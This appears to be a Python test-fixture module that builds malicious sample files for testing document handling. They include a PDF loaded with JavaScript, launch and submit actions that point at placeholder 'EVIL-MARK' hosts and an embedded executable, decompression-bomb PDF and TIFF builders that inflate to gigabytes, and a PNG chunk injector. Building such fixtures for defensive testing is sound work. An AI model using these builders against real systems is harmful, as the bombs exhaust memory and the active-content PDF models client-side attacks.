"""Files that somebody made to harm: PDFs that act, streams that unpack without end, files that are two things at once."""
from __future__ import annotations

import io
import struct
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image, ImageDraw


def scan_pdf(pages: int = 1) -> pikepdf.Pdf:
    """An opened PDF of scanned pages with some ink."""
    frames = []
    for n in range(pages):
        image = Image.new("RGB", (413, 585), "white")
        ImageDraw.Draw(image).rectangle((40, 60 + 40 * n, 300, 120 + 40 * n), fill=(20, 30, 90))
        frames.append(image)
    out = io.BytesIO()
    frames[0].save(out, "PDF", resolution=50, save_all=True, append_images=frames[1:])
    out.seek(0)
    return pikepdf.open(out)


def bytes_of(pdf: pikepdf.Pdf, **options: object) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def acting_pdf() -> bytes:
    """One scanned page, and everything a PDF can do besides."""
    pdf = scan_pdf()
    script = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=String("app.alert('EVIL-MARK')")))
    pdf.Root.OpenAction = Dictionary(Type=Name.Action, S=Name.JavaScript, JS=Stream(pdf, b"app.launchURL('http://EVIL-MARK.example')"),
                                     Next=Array([Dictionary(S=Name.Launch, F=String("EVIL-MARK.exe"))]))
    attached = Stream(pdf, b"MZ EVIL-MARK", Dictionary(Type=Name.EmbeddedFile))
    spec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("a.exe"), EF=Dictionary(F=pdf.make_indirect(attached))))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script])),
                                EmbeddedFiles=Dictionary(Names=Array([String("a.exe"), spec])))
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=Array([String("t"), Stream(pdf, b"<xdp>EVIL-MARK</xdp>")]))
    page = pdf.pages[0].obj
    page.AA = Dictionary(O=script)
    box = Array([0, 0, 50, 50])
    page.Annots = Array([
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=Dictionary(S=Name.URI, URI=String("http://EVIL-MARK.example"))),
        pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=box,
                                     RichMediaContent=Dictionary(Note=String("EVIL-MARK")))),
        Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=box, FS=spec),
        Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Rect=box,
                   A=Dictionary(S=Name.SubmitForm, F=String("http://EVIL-MARK.example")), AA=Dictionary(U=script)),
        Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=box, A=Dictionary(S=Name.Rendition, JS=String("EVIL-MARK"))),
        Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, A=Dictionary(S=Name.GoToR, F=String("//EVIL-MARK/share"))),
    ])
    return bytes_of(pdf)


def object_stream_bomb(unpacked: int = 3_000_000_000) -> bytes:
    """A PDF of some hundred kilobytes whose object stream unpacks to gigabytes, twice deflated, as soon as the file is opened."""
    head = b"1 0 2 200 <</Type/Catalog/Pages 2 0 R>>"
    inner = zlib.compressobj(9)
    packed = inner.compress(head + b" " * 300) + inner.flush(zlib.Z_FULL_FLUSH)
    block = inner.compress(b" " * 10_000_000) + inner.flush(zlib.Z_FULL_FLUSH)     # refers to nothing before it: may be repeated
    packed += block * (unpacked // 10_000_000)
    body = zlib.compress(packed, 9)
    out = b"%PDF-1.5\n"
    stream_at = len(out)
    out += b"4 0 obj\n<</Type/ObjStm/N 2/First 10/Length %d/Filter[/FlateDecode/FlateDecode]>>\nstream\n" % len(body)
    out += body + b"\nendstream\nendobj\n"
    table_at = len(out)
    rows = [(0, 0, 255), (2, 4, 0), (2, 4, 1), (0, 0, 0), (1, stream_at, 0), (1, table_at, 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    out += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table) + table + b"\nendstream\nendobj\n"
    return out + b"startxref\n%d\n%%%%EOF\n" % table_at


def drawing_without_end() -> bytes:
    """A page whose drawing orders unpack to hundreds of megabytes of overlapping paths."""
    pdf = scan_pdf()
    packer = zlib.compressobj(9)
    begin = packer.compress(b"1 w\n") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(b"0 0 m 400 500 l 3 w S 0 500 m 400 0 l S\n" * 50_000) + packer.flush(zlib.Z_FULL_FLUSH)
    orders = Stream(pdf, b"")
    orders.write(begin + block * 240 + zlib.compressobj(9).flush()[2:], filter=Name.FlateDecode, type_check=False)
    pdf.pages[0].Contents = pdf.make_indirect(orders)
    return bytes_of(pdf)


def tiff_of_empty_pages(pages: int, side: int = 8000) -> bytes:
    """Small on the disk, many gigapixels unpacked: the pages share one packed strip of white."""
    image = Image.new("1", (side, side), 1)
    one = io.BytesIO()
    image.save(one, "TIFF", compression="group4")
    with Image.open(one) as read:
        offset, length = read.tag_v2[273][0], read.tag_v2[279][0]
    strip = one.getvalue()[offset:offset + length]
    tags = [(256, 3, side), (257, 3, side), (258, 3, 1), (259, 3, 4), (262, 3, 0), (273, 4, 8), (277, 3, 1), (278, 3, side),
            (279, 4, len(strip))]
    size = 2 + 12 * len(tags) + 4
    start = 8 + len(strip) + len(strip) % 2
    out = b"II*\0" + struct.pack("<I", start) + strip + b"\0" * (len(strip) % 2)
    for n in range(pages):
        following = start + size * (n + 1) if n + 1 < pages else 0
        out += struct.pack("<H", len(tags)) + b"".join(struct.pack("<HHII", t, k, 1, v) for t, k, v in tags) + struct.pack("<I", following)
    return out


def png_with(chunk: bytes, body: bytes) -> bytes:
    """A good PNG with one more chunk after its header."""
    out = io.BytesIO()
    Image.new("L", (300, 400), 200).save(out, "PNG")
    data = out.getvalue()
    more = struct.pack(">I", len(body)) + chunk + body + struct.pack(">I", zlib.crc32(chunk + body))
    return data[:33] + more + data[33:]
